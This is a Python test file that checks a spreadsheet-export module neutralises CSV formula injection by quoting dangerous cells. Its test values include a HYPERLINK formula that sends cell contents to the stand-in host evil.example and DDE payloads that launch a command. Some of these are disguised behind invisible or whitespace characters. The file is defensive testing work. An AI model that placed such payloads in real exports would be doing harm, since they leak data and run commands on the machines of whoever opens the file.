"""Every cell of every CSV the product writes is safe to open in a spreadsheet (OWASP, "CSV
injection"): text a spreadsheet would run as a formula starts with a single quote; numbers
stay numbers."""

from __future__ import annotations

from typing import Any

import pytest

import spreadsheet


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
            '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),  # a full-width equals sign, read as '=' by some spreadsheets
        # behind white space or invisible marks a spreadsheet may skip, or a list separator
        ("\n=1+1", "'\n=1+1"),
        (" =1+1", "' =1+1"),
        ("\u00a0=1+1", "'\u00a0=1+1"),
        ("\u200b=1+1", "'\u200b=1+1"),
        ("\ufeff=1+1", "'\ufeff=1+1"),
        (";=1+1", "';=1+1"),
        (", =1+1", "', =1+1"),
        (" Humber", " Humber"),
        ("; a note", "; a note"),
        # ordinary text and numbers are written as they are
        ("Humber", "Humber"),
        ("a=b", "a=b"),
        ("", ""),
        ("-5", "-5"),
        ("+44", "+44"),
        ("-0.75", "-0.75"),
        ("1e-3", "1e-3"),
        (-5, -5),
        (7.5, 7.5),
        (None, None),
    ],
)
def test_a_cell(value: Any, written: Any) -> None:
    assert spreadsheet.cell(value) == written


def test_a_row_neutralises_every_cell() -> None:
    assert spreadsheet.row(["=1", 2, "x"]) == ["'=1", 2, "x"]
